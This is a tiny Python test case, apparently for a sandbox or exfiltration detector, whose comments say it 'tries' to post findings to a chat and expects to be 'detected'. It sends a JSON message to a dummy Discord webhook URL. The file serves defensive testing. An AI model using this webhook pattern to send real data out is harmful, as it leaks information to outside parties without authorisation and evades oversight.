# tries: post what it found to a chat
# expect: detected
import json
import urllib.request

body = json.dumps({"content": "found: nothing"}).encode()
request = urllib.request.Request("https://discord.com/api/webhooks/000/none", body, {"Content-Type": "application/json"})
try:
    print("EFFECT", urllib.request.urlopen(request, timeout=2).status)
except OSError as refused:
    print(refused)
